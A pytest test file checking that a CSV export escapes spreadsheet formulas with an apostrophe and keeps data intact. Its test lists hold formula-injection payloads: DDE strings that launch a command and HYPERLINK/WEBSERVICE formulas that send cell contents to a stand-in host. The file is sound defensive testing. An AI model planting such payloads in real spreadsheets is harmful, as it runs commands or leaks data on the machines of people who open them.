"""A table that is exported for a spreadsheet runs nothing there, and loses nothing."""

import csv
import os
import re
import stat
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from session_lib import SQLiteSession
from session_lib.tables import APOSTROPHE, export_csv, history, sessions
from tests.helpers.processes import needs_modes

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    '=WEBSERVICE("https://example.org/?"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "-",
]
SEMICOLONS = ["a;=1+1", "a\n=1+1", "a\r\n=1+1", "a\t=1+1", 'a;"=1+1', "a;'=1+1", "a;;=1+1"]
TEXTS = st.text(st.sampled_from("=+-@;,'\"\t\r\n\0 aä|1") | st.characters(codec="utf-8"))


def _table(*texts: Any) -> pd.DataFrame:
    return pd.DataFrame({"turn": range(len(texts)), "text": [*texts]})


def _cells(path: Path) -> list[list[str]]:
    """What a program reads that knows the rules of CSV."""
    with open(path, encoding="utf-8-sig", newline="") as file:
        return [*csv.reader(file)]


def _begins_a_formula(text: str, separators: str) -> bool:
    """Whether a cell begins with a formula, for who knows these separators and no quotes."""
    return any(re.match(r"\"*[=+\-@]", cell) for cell in re.split(f"[{separators}]", text))


@pytest.mark.parametrize("text", FORMULAS)
async def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(
    text: str, tmp_path: Path
) -> None:
    session = SQLiteSession("alice")
    await session.add_items([{"role": "user", "content": text}])
    table = await history(session)
    export_csv(table, tmp_path / "x.csv")
    ((*_, shown, _),) = _cells(tmp_path / "x.csv")[1:]
    assert shown.startswith("'")
    assert shown.replace("'", "") == table["text"][0].replace("'", "")


@pytest.mark.parametrize("text", ["a=1", "1-1", "x@a.org", "", " ", "'a", "Zoë", "a, -b", "5"])
def test_a_text_that_is_no_formula_stays_as_it_is(text: str, tmp_path: Path) -> None:
    export_csv(_table(text), tmp_path / "x.csv")
    assert _cells(tmp_path / "x.csv") == [["turn", "text"], ["0", text]]


@pytest.mark.parametrize("text", [*FORMULAS, *SEMICOLONS])
def test_a_spreadsheet_that_expects_semicolons_finds_no_formula_either(
    text: str, tmp_path: Path
) -> None:
    # There all of a line is one cell, until a semicolon in a text begins another.
    export_csv(_table(text), tmp_path / "x.csv")
    assert not _begins_a_formula((tmp_path / "x.csv").read_bytes().decode("utf-8-sig"), ";\t\r\n")


def test_names_of_sessions_roles_and_columns_are_texts_too(tmp_path: Path) -> None:
    table = pd.DataFrame({"=1+1": pd.Categorical(["@role", "user"])})
    export_csv(table, tmp_path / "x.csv")
    assert _cells(tmp_path / "x.csv") == [["'=1+1"], ["'@role"], ["user"]]


async def test_the_table_of_sessions_is_exported_safely(tmp_path: Path) -> None:
    for name in ("=1+1", "alice"):
        async with SQLiteSession(name, tmp_path / "x.db") as session:
            await session.add_items([{"role": "user", "content": "Hello"}])
    export_csv(await sessions(tmp_path / "x.db"), tmp_path / "x.csv")
    assert sorted(row[0] for row in _cells(tmp_path / "x.csv")[1:]) == ["'=1+1", "alice"]


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    export_csv(pd.DataFrame({"a": [-1, 2], "b": [-0.5, 1e300]}), tmp_path / "x.csv")
    table = pd.read_csv(tmp_path / "x.csv")
    assert table.to_dict("list") == {"a": [-1, 2], "b": [-0.5, 1e300]}


@given(texts=st.lists(TEXTS | st.sampled_from([*FORMULAS, *SEMICOLONS]), max_size=5))
@example(texts=[*FORMULAS, *SEMICOLONS])
@settings(
    max_examples=300,
    deadline=None,
    derandomize=bool(os.environ.get("CI")),
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_the_apostrophes_come_off_again_as_the_docstring_says(
    texts: list[str], tmp_path: Path
) -> None:
    path = tmp_path / "x.csv"
    export_csv(_table(*texts), path)

    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    table["text"] = table["text"].str.replace(APOSTROPHE, "", regex=True)

    assert [*table["text"]] == texts
    assert not _begins_a_formula(path.read_bytes().decode("utf-8-sig"), ";\t\r\n")
    for _, shown in _cells(path)[1:]:
        assert not re.match(r"[=+\-@\t\r\n\0]", shown)


async def test_the_file_is_as_a_spreadsheet_on_windows_likes_it(tmp_path: Path) -> None:
    session = SQLiteSession("alice", tmp_path / "x.db")
    await session.add_items([{"role": "user", "content": "Zoë said:\n你好"}])
    table = await history(session)
    table.index = ["not this"]
    export_csv(table, tmp_path / "x.csv")
    header, row = (tmp_path / "x.csv").read_bytes().split(b"\r\n", 1)
    assert header == b'\xef\xbb\xbf"turn","role","kind","text","time"'
    assert row.startswith('"1","user","message","Zoë said:\n你好","20'.encode())
    assert row.endswith(b'"\r\n')
    await session.close()


def test_an_empty_table_is_a_line_of_names(tmp_path: Path) -> None:
    export_csv(_table(), tmp_path / "x.csv")
    assert _cells(tmp_path / "x.csv") == [["turn", "text"]]


def test_half_a_character_is_written_as_its_escape(tmp_path: Path) -> None:
    export_csv(pd.DataFrame({"text": pd.Series(["\ud800"], dtype=object)}), tmp_path / "x.csv")
    assert _cells(tmp_path / "x.csv")[1:] == [["\\ud800"]]


def test_the_table_itself_is_not_changed(tmp_path: Path) -> None:
    table = _table("=1+1", "a")
    before = table.copy()
    export_csv(table, tmp_path / "x.csv")
    pd.testing.assert_frame_equal(table, before)


@needs_modes
def test_a_new_file_is_its_owners_only_and_an_old_one_keeps_its_mode(tmp_path: Path) -> None:
    (tmp_path / "old.csv").touch()
    (tmp_path / "old.csv").chmod(0o644)
    for name in ("new.csv", "old.csv"):
        export_csv(_table("a"), tmp_path / name)
    modes = [stat.S_IMODE((tmp_path / name).stat().st_mode) for name in ("new.csv", "old.csv")]
    assert modes == [0o600, 0o644]


def test_a_file_that_is_there_is_overwritten(tmp_path: Path) -> None:
    export_csv(_table("a", "b", "c"), tmp_path / "x.csv")
    export_csv(_table("d"), str(tmp_path / "x.csv"))
    assert _cells(tmp_path / "x.csv")[1:] == [["0", "d"]]


def test_a_tilde_is_the_home_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("USERPROFILE", str(tmp_path))
    export_csv(_table("a"), Path("~", "x.csv"))
    assert os.listdir(tmp_path) == ["x.csv"]


@pytest.mark.parametrize("table", [None, [], {"text": ["a"]}, pd.Series(["a"]), "a"])
def test_what_is_no_table_is_refused_and_makes_no_file(table: Any, tmp_path: Path) -> None:
    with pytest.raises(TypeError, match=r"table is a .*DataFrame"):
        export_csv(table, tmp_path / "x.csv")
    assert os.listdir(tmp_path) == []


@pytest.mark.parametrize("path", [None, 1, b"x.csv", ["x.csv"]])
def test_what_is_no_path_is_refused(path: Any) -> None:
    with pytest.raises(TypeError, match="path is a "):
        export_csv(_table("a"), path)


def test_a_file_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match="no such folder"):
        export_csv(_table("a"), tmp_path / "no such folder" / "x.csv")
